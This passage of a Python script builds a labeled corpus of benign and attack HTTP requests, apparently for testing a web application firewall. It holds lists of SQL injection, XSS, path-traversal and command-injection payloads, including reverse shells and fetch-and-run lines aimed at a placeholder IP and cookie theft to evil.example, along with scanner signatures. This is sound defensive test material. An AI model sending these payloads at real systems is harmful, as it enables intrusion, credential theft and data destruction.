    names = {"<": "&lt;", ">": "&gt;", '"': "&quot;", "'": "&apos;", "&": "&amp;", "/": "&sol;", "(": "&lpar;", ")": "&rpar;", "=": "&equals;", ";": "&semi;", ":": "&colon;", ".": "&period;", "\\": "&bsol;", "`": "&grave;"}
    out = []
    for ch in p:
        if ch in SPECIAL and ch != " ":
            if style == "named" and ch in names:
                out.append(names[ch])
            elif style == "hex":
                out.append("&#x%x;" % ord(ch))
            else:
                out.append("&#%d;" % ord(ch))
        else:
            out.append(ch)
    return "".join(out)


def unicode_escapes(p, percent):
    return "".join((("%%u%04x" if percent else "\\u%04x") % ord(ch)) if ch in SPECIAL and ch != " " else ch for ch in p)


# what a client leaves raw in a path segment / query value (RFC 3986 pchar, minus ; and the
# query's own separators)
PATH_SAFE = "-._~!$'()*,=:@/+&"
QUERY_SAFE = "-._~!$'()*,:@/?;"


def encode(p, enc, where):
    """The payload `p` under encoding `enc`, as it goes into `where`:
    path|query (wire form), header|cookie (header value), json (a JSON string's content),
    form (a field's value before form-encoding)."""
    # A payload that is itself percent-encoded (`..%2f`, `%0aid`) goes out as written.
    pre = "%" if re.search(r"%[0-9a-fA-F]{2}", p) else ""
    if enc == "raw":
        if where == "path":
            return quote(p, safe=PATH_SAFE + pre)
        if where == "query":
            return quote(p, safe=QUERY_SAFE + pre)
        if where == "cookie":
            return quote(p, safe="-._~!$'()*/:<=>?@[]^`{|}#&+")
        if where == "header" and any(ord(c) < 0x20 for c in p):
            return quote(p, safe="".join(sorted(SPECIAL | {"?", "#", "@", "[", "]", "%", "+", "*", "!", "-", "~", "_", ","})))
        return p
    if enc == "url":
        return quote(p, safe="/" if where == "path" else "")
    if enc == "double":
        return quote(quote(p, safe="/" if where == "path" else ""), safe="/" if where == "path" else "")
    if enc.startswith("html"):
        style = enc.split("-", 1)[1] if "-" in enc else "dec"
        v = html_entities(p, style)
        if where in ("path", "query", "cookie"):
            return quote(v, safe="/" if where == "path" else "")
        return v
    if enc == "unicode":
        if where in ("path", "query"):
            v = unicode_escapes(p, percent=True)
            return "".join(c if c == "%" else quote(c, safe=PATH_SAFE if where == "path" else QUERY_SAFE) for c in v)
        return unicode_escapes(p, percent=False)
    raise ValueError(enc)


def _attack_request(cls, p, placement, enc, i):
    """method, path, headers, body, content_type for payload `p` placed and encoded."""
    param = {"SqlInjection": at(["id", "sort", "q", "category"], i),
             "CrossSiteScripting": at(["q", "name", "next", "message"], i),
             "PathTraversal": at(["file", "path", "template", "download"], i),
             "CommandInjection": at(["host", "ip", "filename", "domain"], i)}[cls]
    endpoint = {"SqlInjection": "/api/v1/products", "CrossSiteScripting": "/api/v1/search",
                "PathTraversal": "/api/v1/files", "CommandInjection": "/api/v1/diagnostics/ping"}[cls]
    base = browser(i) if i % 2 else sdk(i, auth=False)
    if placement == "query":
        pairs = "page=1&%s=%s" % (param, encode(p, enc, "query")) if i % 3 else "%s=%s" % (param, encode(p, enc, "query"))
        return "GET", endpoint + "?" + pairs, base, None, None
    if placement == "path":
        seg = {"SqlInjection": "/api/v1/users/", "CrossSiteScripting": "/api/v1/profiles/",
               "PathTraversal": "/api/v1/files/", "CommandInjection": "/api/v1/exports/"}[cls]
        return "GET", seg + encode(p, enc, "path"), base, None, None
    if placement in ("user-agent", "referer", "x-custom", "cookie"):
        h = [(n, v) for n, v in sdk(i, auth=False) if n not in ("User-Agent",)]
        if placement == "user-agent":
            h.insert(0, ("User-Agent", encode(p, enc, "header")))
        elif placement == "referer":
            v = encode(p, enc, "query")
            h = [("User-Agent", CHROME_WIN)] + h + [("Referer", "https://shop.example.com/search?q=" + v)]
        elif placement == "x-custom":
            h = [("User-Agent", FIREFOX)] + h + [(at(["X-Custom", "X-Tenant-Id", "X-Forwarded-Host", "X-Custom"], i), encode(p, enc, "header"))]
        else:
            h = [("User-Agent", EDGE)] + h + [("Cookie", "sid=a1b2c3d4e5; %s=%s; theme=dark" % (at(["user_id", "pref", "cart", "lang"], i), encode(p, enc, "cookie")))]
        return "GET", endpoint + "?page=1", h, None, None
    if placement == "json":
        v = encode(p, enc, "json")
        if i % 3 == 0:
            body = {"title": at(TICKET_TITLES, i), "body": v, "priority": "normal",
                    "requester": {"name": "Sam Lee", "email": "sam.lee@example.com"}}
            path = "/api/v1/tickets"
        elif i % 3 == 1:
            body = {"rating": 5, "title": "Great", "body": v}
            path = "/api/v1/products/blue-shirt-xl/reviews"
        else:
            body = {"customerId": uid("customer-1"), "items": [{"sku": "TS-BLUE-XL", "quantity": 1}], "note": v}
            path = "/api/v1/orders"
        raw = json.dumps(body, ensure_ascii=False).encode()
        return "POST", path, browser(i, "POST"), raw, "application/json"
    if placement == "json-typed":
        # The payload where the schema wants a number, an enum, a uuid: the schema refuses it.
        v = encode(p, enc, "json")
        field = at(["quantity", "status", "customerId", "deliveryMethod"], i)
        body = {"customerId": uid("customer-2"), "items": [{"sku": "TS-NAVY-M", "quantity": 2}], "status": "pending"}
        if field == "quantity":
            body["items"][0]["quantity"] = v
        else:
            body[field] = v
        return "POST", "/api/v1/orders", sdk(i), json.dumps(body).encode(), "application/json"
    if placement == "json-email":
        # A payload that IS a valid email address, in a `format: email` field.
        body = {"body": "Please call me back.", "requester": {"name": "Pat", "email": p}, "priority": "high"}
        return "POST", "/api/v1/tickets", sdk(i), json.dumps(body).encode(), "application/json"
    if placement == "form":
        v = encode(p, enc, "form")
        fields = at([[("username", v), ("password", "hunter2")],
                     [("name", "Sam"), ("email", "sam@example.com"), ("message", v)],
                     [("q", v), ("category", "all")]], i)
        path = at(["/login", "/contact", "/api/v1/search"], i)
        return "POST", path, browser(i, "POST"), form_body(fields), "application/x-www-form-urlencoded"
    raise ValueError(placement)


def _expand(cls, tag, payloads, combos, per_payload=3):
    """Each payload under `per_payload` consecutive (placement, encoding) combos, rotating."""
    out = []
    k = 0
    for pi, entry in enumerate(payloads):
        p, only = (entry if isinstance(entry, tuple) else (entry, None))
        variants = only or [at(combos, pi * per_payload + j) for j in range(per_payload)]
        for placement, enc in variants:
            k += 1
            method, path, headers, body, ctype = _attack_request(cls, p, placement, enc, k)
            out.append({"id": "%s-%03d" % (tag, k), "kind": "attack", "class": cls, "method": method, "path": path,
                        "headers": headers, "body": body, "content_type": ctype,
                        "payload": p, "placement": placement, "encoding": enc,
                        "note": "%s in %s (%s)" % (p, placement, enc)})
    return out


SQLI = [
    "1' OR '1'='1", "' OR 1=1-- -", "admin'--", "1 OR 1=1", "\" OR \"\"=\"", "') OR ('a'='a",
    "1 UNION SELECT username, password FROM users--", "-1' UNION ALL SELECT NULL,NULL,version()-- -",
    "1; DROP TABLE users--", "1'; EXEC xp_cmdshell('dir')--", "1' AND SLEEP(5)-- -",
    "1'; WAITFOR DELAY '0:0:5'--", "1' || pg_sleep(5)--", "1 AND 1=1", "1' AND '1'='2",
    "1 AND (SELECT SUBSTRING(password,1,1) FROM users WHERE id=1)='a'", "1/**/UNION/**/SELECT/**/1,2,3",
    "1' ORDER BY 5-- -", "1 AND extractvalue(1,concat(0x7e,(SELECT user())))",
    "' UNION SELECT table_name FROM information_schema.tables--", "1' AND 1=(SELECT COUNT(*) FROM tabname); --",
    "1 OR BENCHMARK(5000000,MD5(1))", "x' AND updatexml(1,concat(0x7e,database()),1)='1",
]
SQLI_COMBOS = [("query", "raw"), ("path", "url"), ("json", "raw"), ("cookie", "raw"), ("query", "url"),
               ("form", "raw"), ("user-agent", "raw"), ("query", "double"), ("json-typed", "raw"),
               ("referer", "raw"), ("x-custom", "raw"), ("query", "html-dec"), ("json", "unicode"),
               ("query", "unicode"), ("form", "url"), ("path", "raw"), ("json", "html-named"), ("query", "html-hex")]
SQLI_EMAIL = [("x'or'1'='1@example.com", [("json-email", "raw")]),
              ("admin'--@example.com", [("json-email", "raw")]),
              ("'||(select 1)||'@example.com", [("json-email", "raw")])]

XSS = [
    "<script>alert(1)</script>", "<img src=x onerror=alert(document.cookie)>", "<svg onload=alert(1)>",
    "javascript:alert(document.domain)", "\"><script>alert(1)</script>", "'><img src=x onerror=prompt(1)>",
    "<iframe src=\"javascript:alert(1)\"></iframe>", "<body onload=alert('xss')>",
    "\" onmouseover=\"alert(1)", "' autofocus onfocus='alert(1)", "<a href=\"javascript:alert(1)\">click</a>",
    "<svg><script>alert(1)</script></svg>", "<details open ontoggle=alert(1)>", "<input onfocus=alert(1) autofocus>",
    "<img src=\"x\" onerror=\"fetch('https://evil.example/?c='+document.cookie)\">", "<ScRiPt>alert(String.fromCharCode(88,83,83))</sCrIpT>",
    "data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==", "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
    "<video><source onerror=\"alert(1)\">", "</textarea><script>alert(1)</script>", "<object data=\"javascript:alert(1)\">",
    "vbscript:msgbox(1)", "<marquee onstart=alert(1)>",
]
XSS_COMBOS = [("query", "raw"), ("json", "raw"), ("query", "url"), ("form", "raw"), ("path", "url"),
              ("query", "html-named"), ("referer", "raw"), ("json", "unicode"), ("cookie", "raw"),
              ("query", "double"), ("x-custom", "raw"), ("json", "html-dec"), ("query", "unicode"),
              ("user-agent", "raw"), ("json-typed", "raw"), ("form", "html-hex"), ("query", "html-hex"), ("json", "url")]
XSS_EMAIL = [("\"<script>alert(1)</script>\"@example.com", [("json-email", "raw")]),
             ("\"<img src=x onerror=alert(1)>\"@example.com", [("json-email", "raw")])]

TRAVERSAL = [
    "../../etc/passwd", "../../../../../../etc/passwd", "..\\..\\..\\windows\\win.ini", "/etc/shadow",
    "../../../proc/self/environ", "....//....//....//etc/passwd", "..%2f..%2f..%2fetc%2fpasswd",
    "%2e%2e%2f%2e%2e%2f%2e%2e%2fetc%2fpasswd", "%252e%252e%252f%252e%252e%252fetc%252fpasswd",
    "..%c0%af..%c0%af..%c0%afetc%c0%afpasswd", "../../../../var/www/html/.htaccess", "/proc/self/cmdline",
    "..\\..\\..\\..\\boot.ini", "../../WEB-INF/web.xml", "../../../home/app/.ssh/id_rsa",
    "..;/..;/etc/passwd", "file:///etc/passwd", "../../../root/.aws/credentials", "c:\\windows\\system32\\drivers\\etc\\hosts",
    "../" * 8 + "etc/hosts", "/var/log/../../etc/passwd",
]
TRAVERSAL_COMBOS = [("query", "raw"), ("path", "raw"), ("json", "raw"), ("query", "url"), ("form", "raw"),
                    ("path", "url"), ("query", "double"), ("cookie", "raw"), ("json", "url"), ("x-custom", "raw"),
                    ("query", "unicode"), ("referer", "raw"), ("json", "html-dec"), ("query", "html-hex"),
                    ("path", "double"), ("form", "url")]

CMDI = [
    "127.0.0.1; ls -la", "127.0.0.1 | id", "example.com && whoami", "`id`", "$(whoami)", "127.0.0.1\nid",
    "cat${IFS}/etc/passwd", "; cat /etc/passwd", "| nc 203.0.113.7 4444 -e /bin/sh",
    "; wget http://203.0.113.7/x.sh -O /tmp/x.sh", "; sleep 5", "|| ping -c 10 127.0.0.1",
    "& ping -n 10 127.0.0.1 &", "x; /bin/bash -i >& /dev/tcp/203.0.113.7/4444 0>&1", "$(curl -s http://203.0.113.7/s.sh | sh)",
    "127.0.0.1;uname${IFS}-a", "a;busybox telnetd -l /bin/sh -p 9999", "x'; id; '", "; php -r 'system(\"id\");'",
    "; python3 -c 'import os;os.system(\"id\")'", "`sleep 10`", "report.pdf|/usr/bin/id",
    "; echo vulnerable", "|| whoami", "; nslookup x.oast.example", "& certutil -urlcache -split -f http://203.0.113.7/a.exe a.exe",
    "; rm -rf /tmp/*", "; chmod +x /tmp/x; /tmp/x", "() { :; }; /bin/bash -c 'id'", "1;{cat,/etc/passwd}",
    "$(id)", "a\n/bin/ls -la /", "%0aid", "127.0.0.1 | powershell -enc SQBFAFgA",
]
CMDI_COMBOS = [("query", "raw"), ("json", "raw"), ("form", "raw"), ("query", "url"), ("x-custom", "raw"),
               ("user-agent", "raw"), ("path", "url"), ("query", "double"), ("json", "unicode"), ("cookie", "raw"),
               ("referer", "raw"), ("json-typed", "raw"), ("query", "html-dec"), ("form", "url"), ("json", "html-named"),
               ("query", "unicode")]

SCANNER_AGENTS = [
    ("sqlmap", "sqlmap/1.7.12#stable (https://sqlmap.org)"),
    ("sqlmap", "sqlmap/1.4.7#stable (http://sqlmap.org)"),
    ("nikto", "Mozilla/5.00 (Nikto/2.5.0) (Evasions:None) (Test:000562)"),
    ("nikto", "Mozilla/5.00 (Nikto/2.1.6) (Evasions:None) (Test:Port Check)"),
    ("nmap", "Mozilla/5.0 (compatible; Nmap Scripting Engine; https://nmap.org/book/nse.html)"),
    ("masscan", "masscan/1.3 (https://github.com/robertdavidgraham/masscan)"),
    ("nuclei", "Nuclei - Open-source project (github.com/projectdiscovery/nuclei)"),
    ("nuclei", "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/99.0.4844.84 Safari/537.36 nuclei"),
    ("acunetix", "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/91.0.4472.124 Safari/537.21 Acunetix"),
    ("wpscan", "WPScan v3.8.25 (https://wpscan.com/wordpress-security-scanner)"),
    ("dirbuster", "DirBuster-1.0-RC1 (http://www.owasp.org/index.php/Category:OWASP_DirBuster_Project)"),
    ("gobuster", "gobuster/3.6"),
    ("ffuf", "Fuzz Faster U Fool v2.1.0-dev"),
    ("ffuf", "Mozilla/5.0 (compatible; ffuf/2.1.0)"),
    ("wfuzz", "Wfuzz/3.1.0"),
    ("havij", "Mozilla/4.0 (compatible; MSIE 7.0; Windows NT 5.1; SV1; .NET CLR 2.0.50727) Havij"),
    ("zgrab", "Mozilla/5.0 zgrab/0.x"),
    ("netsparker", "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/120.0.0.0 Safari/537.36 Netsparker"),
    ("nessus", "Mozilla/5.0 (compatible; Nessus; +http://www.nessus.org)"),
    ("openvas", "Mozilla/5.0 [en] (X11, U; OpenVAS-VT 22.4.1)"),
    ("arachni", "Arachni/v1.6.1.3"),
    ("skipfish", "Mozilla/5.0 SF/2.10b"),
    ("w3af", "w3af.org"),
    ("whatweb", "WhatWeb/0.5.5"),
    ("commix", "commix/v3.9-stable (https://commixproject.com)"),
    ("jaeles", "Jaeles Scanner"),
    ("feroxbuster", "feroxbuster/2.10.1"),
    ("dirb", "Mozilla/4.0 (compatible; MSIE 6.0; Windows NT 5.1) dirb/2.22"),
    ("xsstrike", "XSStrike/3.1.5"),
    ("zmeu", "ZmEu"),
]
SCANNER_PROBES = ["/", "/.env", "/wp-login.php", "/api/v1/users?id=1", "/admin/", "/.git/config",
                  "/api/v1/search?q=test", "/server-status", "/phpinfo.php", "/api/v1/products/1"]
SCANNER_HEADERS = [
    [("User-Agent", CHROME_WIN), ("Acunetix-Product", "WVS/14.0 (Acunetix Web Vulnerability Scanner - NORMAL)"),
     ("Acunetix-Scanning-agreement", "Third Party Scanning PROHIBITED"), ("Acunetix-User-agreement", "http://www.acunetix.com/wvs/disc.htm")],
    [("User-Agent", CHROME_WIN), ("Acunetix-Product", "WVS/5.0 (Acunetix Web Vulnerability Scanner - Free Edition)")],
    [("User-Agent", CHROME_WIN), ("X-Scan-Memo", "Category=\"Audit.Attack\"; Function=\"createStateRequestFromAttackDefinition\"; SID=\"1A2B3C\"; PSID=\"4D5E6F\"; SessionType=\"AuditAttack\"; CrawlType=\"None\"; AttackType=\"QueryParamManipulation\"; OriginatingEngineID=\"0\"; AttackSequence=\"0\"; AttackParamDesc=\"q\"; AttackParamIndex=\"0\"; AttackParamSubIndex=\"0\"; CheckId=\"10275\"; Engine=\"Sql+Injection\"; SmartMode=\"NonServerSpecificOnly\"; ThreadId=\"52\"; ThreadType=\"AuditorStateRequestor\"")],
    [("User-Agent", FIREFOX), ("X-Scan-Memo", "Category=\"Crawl\"; Function=\"ParseForm\"")],
    [("User-Agent", CHROME_MAC), ("X-WIPP", "AscVersion=22.2.0.123")],
    [("User-Agent", CHROME_MAC), ("X-Request-Memo", "ID=\"1a2b3c\"; ThreadId=\"17\"")],
]


def scanners():
    out = []
    k = 0
    for i, (tool, ua) in enumerate(SCANNER_AGENTS):
        for j in range(2 if i % 3 == 0 else 1):
            k += 1
            probe = at(SCANNER_PROBES, i + j * 5)
            h = [("User-Agent", ua), ("Accept", "*/*")]
            if tool == "sqlmap":
                h += [("Accept-Encoding", "gzip,deflate"), ("Cache-Control", "no-cache")]
            if tool == "acunetix":
                h.append(("Acunetix-Product", "WVS/14.0 (Acunetix Web Vulnerability Scanner - NORMAL)"))
            out.append({"id": "scan-%03d" % k, "kind": "attack", "class": "ScannerDetection", "method": "GET", "path": probe,
                        "headers": h, "body": None, "content_type": None, "payload": ua, "placement": "user-agent", "encoding": "raw",
                        "note": "%s User-Agent %r on %s" % (tool, ua, probe)})
    for i, h in enumerate(SCANNER_HEADERS):
        k += 1
        name = h[1][0]
        out.append({"id": "scan-%03d" % k, "kind": "attack", "class": "ScannerDetection", "method": "GET", "path": at(SCANNER_PROBES, i + 3),
                    "headers": h, "body": None, "content_type": None, "payload": "%s: %s" % (name, h[1][1]), "placement": "header",
                    "encoding": "raw", "note": "%s header" % name})
    return out


def protocol():
    """ProtocolViolation: mostly requests that reach the WAF (percent-encoded anomalies,
    methods, framing); a few raw bytes the HTTP parser itself refuses (marked front-door)."""
    items = []

    def add(note, method, path, headers=None, body=None, ctype=None, encoding="raw", placement="query"):
        items.append({"id": "proto-%03d" % (len(items) + 1), "kind": "attack", "class": "ProtocolViolation", "method": method,
                      "path": path, "headers": headers or sdk(len(items), auth=False), "body": body, "content_type": ctype,
                      "payload": note, "placement": placement, "encoding": encoding, "note": note})

    # invalid and hostile percent-escapes in the query
    for p, note in [("q=%zz", "invalid escape %zz"), ("q=abc%", "trailing %"), ("q=100%2", "truncated escape %2"),
                    ("name=a%00b", "NUL %00 in a value"), ("file=report.pdf%00.jpg", "NUL byte before an extension"),
                    ("q=test%01x", "control byte %01"), ("q=%1b%5b31mred", "ESC %1b (terminal escape)"),
                    ("q=a%7fb", "DEL %7f"), ("path=%c0%ae%c0%ae%c0%af", "overlong UTF-8 %c0%ae"),
                    ("q=%e0%80%ae", "overlong 3-byte UTF-8"), ("q=%c1%bf", "overlong %c1%bf"),
                    ("q=%%32%65", "nested escape %%32%65"), ("q=%u00zz", "invalid %u escape"), ("x=1&y=%G1", "invalid hex %G1"),
                    ("redirect=%0d%0aSet-Cookie:%20a=b", "CRLF injection %0d%0a in a redirect parameter"),
                    ("q=%08%08%08", "backspace bytes"), ("lang=en%00", "NUL at the end"),
                    ("q=%2500", "double-encoded NUL %2500"), ("q=%251b", "double-encoded ESC")]:
        add(note, "GET", "/api/v1/search?" + p)
    # the same anomalies in a header, a cookie, a form and a JSON body
    add("NUL %00 in a header value", "GET", "/api/v1/products", [("User-Agent", "curl/8.5.0"), ("X-Custom", "abc%00def")], placement="header")
    add("invalid escape in a cookie", "GET", "/api/v1/products", [("User-Agent", "curl/8.5.0"), ("Cookie", "sid=abc; pref=%zz%")], placement="cookie")
    add("ESC %1b in the Referer", "GET", "/api/v1/products", [("User-Agent", CHROME_WIN), ("Referer", "https://shop.example.com/?q=%1b]0;pwned%07")], placement="header")
    add("NUL in a form field", "POST", "/login", None, b"username=admin%00&password=x", "application/x-www-form-urlencoded", placement="form")
    add("NUL in a JSON string (\\u0000)", "POST", "/api/v1/products/blue-shirt-xl/reviews", None, b'{"rating":5,"body":"nice\\u0000<hidden>"}', "application/json", placement="json")
    add("NUL in a JSON free-text field (tickets)", "POST", "/api/v1/tickets", None,
        b'{"title":"hello","body":"file.txt\\u0000.exe","requester":{"email":"a@example.com"}}', "application/json", placement="json")
    # methods and framing no API takes
    for m in ["TRACE", "TRACK", "DEBUG"]:
        add("%s method" % m, m, "/api/v1/users/42", placement="method")
    add("TRACE with Max-Forwards", "TRACE", "/", [("User-Agent", "curl/8.5.0"), ("Max-Forwards", "0")], placement="method")
    add("GET with a body", "GET", "/api/v1/users/42", None, b'{"id": 42}', "application/json", placement="framing")
    add("GET with a form body", "GET", "/api/v1/search", None, b"q=test", "application/x-www-form-urlencoded", placement="framing")
    add("HEAD with a body", "HEAD", "/api/v1/products/1", None, b"x" * 16, "text/plain", placement="framing")
    ranges = ",".join("%d-%d" % (i * 10, i * 10 + 5) for i in range(20))
    add("Range with 20 ranges", "GET", "/api/v1/files/report-2024-q4.pdf", [("User-Agent", "curl/8.5.0"), ("Range", "bytes=" + ranges)], placement="header")
    add("Range with 11 overlapping ranges", "GET", "/api/v1/files/report-2024-q4.pdf", [("User-Agent", "curl/8.5.0"), ("Range", "bytes=" + ",".join(["0-"] * 11))], placement="header")
    add("Range with 200 tiny ranges (Apache Killer)", "GET", "/api/v1/files/big.bin", [("User-Agent", "curl/8.5.0"), ("Range", "bytes=0-," + ",".join("5-%d" % i for i in range(200)))], placement="header")
    add("two Host headers", "GET", "/api/v1/users/42", [("Host", "api.example.com"), ("Host", "evil.example"), ("User-Agent", "curl/8.5.0")], placement="header")
    # bytes the HTTP parser refuses before any policy (front-door 400s)
    add("raw control byte 0x01 in the query", "GET", "/api/v1/search?q=a\x01b", placement="query", encoding="raw-bytes")
    add("raw ESC in a header", "GET", "/api/v1/products", [("User-Agent", "curl/8.5.0"), ("X-Custom", "a\x1b[2Jb")], placement="header", encoding="raw-bytes")
    add("NUL %00 in the path", "GET", "/api/v1/files/report.pdf%00.jpg", placement="path")
    return items


def attacks():
    out = []
    out += _expand("SqlInjection", "sqli", SQLI + SQLI_EMAIL, SQLI_COMBOS)
    out += _expand("CrossSiteScripting", "xss", XSS + XSS_EMAIL, XSS_COMBOS)
    out += _expand("PathTraversal", "trav", TRAVERSAL, TRAVERSAL_COMBOS)
    out += _expand("CommandInjection", "cmdi", CMDI, CMDI_COMBOS, per_payload=2)
    out += scanners()
    out += protocol()
    return out


def build():
    """The corpus: benign items, then attacks."""
    items = benign() + attacks()
    # A client's X-Request-Id is unique per request (the gateway keeps it, and its log
    # lines name it): derive it from the item.
    for it in items:
        it["headers"] = [(n, uid("req-" + it["id"]) if n.lower() == "x-request-id" else v) for n, v in it["headers"]]
    return items


# === conformance check of the schema-bound bodies (a tiny validator for our schemas) ====


def _conforms(value, schema, path="$"):
    """Errors of `value` against the subset of JSON Schema ORDER_SCHEMA/TICKET_SCHEMA use."""
    errs = []
    if "enum" in schema and value not in schema["enum"]:
        errs.append("%s: %r not in enum" % (path, value))
    t = schema.get("type")
    types = {"object": dict, "array": list, "string": str, "boolean": bool}
    if t == "integer" and not (isinstance(value, int) and not isinstance(value, bool)):
        errs.append("%s: not an integer" % path)
    elif t == "number" and not (isinstance(value, (int, float)) and not isinstance(value, bool)):
        errs.append("%s: not a number" % path)
    elif t in types and not isinstance(value, types[t]):
        errs.append("%s: not %s" % (path, t))
        return errs
    if isinstance(value, dict):
        for r in schema.get("required", []):
            if r not in value:
                errs.append("%s: missing %s" % (path, r))
        props = schema.get("properties", {})
        for k, v in value.items():
            if k in props:
                errs += _conforms(v, props[k], path + "." + k)
            elif schema.get("additionalProperties") is False:
                errs.append("%s: unexpected %s" % (path, k))
    if isinstance(value, list):
        if len(value) < schema.get("minItems", 0):
            errs.append("%s: too few items" % path)
        for i, v in enumerate(value):
            errs += _conforms(v, schema.get("items", {}), "%s[%d]" % (path, i))
    if isinstance(value, str):
        if len(value) > schema.get("maxLength", 1 << 30):
            errs.append("%s: too long" % path)
        fmt = schema.get("format")
        pattern = {"uuid": r"^[0-9a-f]{8}-[0-9a-f]{4}-[0-9a-f]{4}-[0-9a-f]{4}-[0-9a-f]{12}$",
                   "email": r"^[^@\s]+@[^@\s]+\.[^@\s]+$",
                   "date": r"^\d{4}-\d{2}-\d{2}$",
                   "date-time": r"^\d{4}-\d{2}-\d{2}T\d{2}:\d{2}:\d{2}(\.\d+)?(Z|[+-]\d{2}:\d{2})$"}.get(fmt)
        if pattern and not re.match(pattern, value):
            errs.append("%s: not a %s" % (path, fmt))
    if isinstance(value, (int, float)) and not isinstance(value, bool):
        if value < schema.get("minimum", float("-inf")) or value > schema.get("maximum", float("inf")):
            errs.append("%s: out of range" % path)
    return errs


def schema_for(path):
    for prefix, schema in SCHEMA_PATHS.items():
        if path.split("?", 1)[0].startswith(prefix):
            return schema
    return None


def schema_errors(items):
    """{id: [errors]} for benign JSON bodies under a schema'd path that do not conform."""
    bad = {}
    for it in items:
        schema = schema_for(it["path"])
        if it["kind"] != "benign" or schema is None or it["body"] is None:
            continue
        try:
            errs = _conforms(json.loads(it["body"]), schema)
        except ValueError as e:
            errs = ["not JSON: %s" % e]
        if errs:
            bad[it["id"]] = errs
    return bad


# === command line =====================================================================


def dump(items):
    kinds = Counter(it["kind"] for it in items)
    print("corpus: %d items (%d benign, %d attack)" % (len(items), kinds["benign"], kinds["attack"]))
    print("\nbenign by group:")
    for g, n in sorted(Counter(it["id"].rsplit("-", 1)[0] for it in items if it["kind"] == "benign").items()):
        print("  %-14s %4d" % (g, n))
    print("\nbenign by method:")
    for m, n in Counter(it["method"] for it in items if it["kind"] == "benign").most_common():
        print("  %-14s %4d" % (m, n))
    schema_bound = [it for it in items if it["kind"] == "benign" and schema_for(it["path"]) and it["body"] is not None]
    print("\nbenign bodies under a schema (orders, tickets): %d" % len(schema_bound))
    print("\nattacks by class:")
    for c in CLASSES:
        print("  %-20s %4d" % (c, sum(1 for it in items if it["class"] == c)))
    print("\nattacks by placement:")
    for p, n in Counter(it.get("placement") for it in items if it["kind"] == "attack").most_common():
        print("  %-14s %4d" % (p, n))
    print("\nattacks by encoding:")
    for e, n in Counter(it.get("encoding") for it in items if it["kind"] == "attack").most_common():
        print("  %-14s %4d" % (e, n))
    bad = schema_errors(items)
    if bad:
        print("\nBENIGN BODIES THAT DO NOT CONFORM TO THEIR SCHEMA:")
        for k, v in bad.items():
            print("  %s: %s" % (k, "; ".join(v)))
        return 1
    return 0


def main(argv):
    items = build()
    ids = [it["id"] for it in items]
    assert len(ids) == len(set(ids)), "duplicate ids"
    if "--list" in argv:
        wanted = [a for a in argv if not a.startswith("--")]
        for it in items:
            if wanted and it["id"] not in wanted:
                continue
            if wanted:
                print(json.dumps({k: (v.decode("utf-8", "replace") if isinstance(v, bytes) else v) for k, v in it.items()}, indent=2, ensure_ascii=False))
            else:
                body = "" if it["body"] is None else " +%dB %s" % (len(it["body"]), it["content_type"])
                print("%-16s %-7s %s%s" % (it["id"], it["method"], it["path"][:110], body))
        return 0
    if "--dump" in argv:
        return dump(items)
    print(__doc__)
    return 2


if __name__ == "__main__":
    try:
        sys.exit(main(sys.argv[1:]))
    except BrokenPipeError:  # | head
        sys.exit(0)
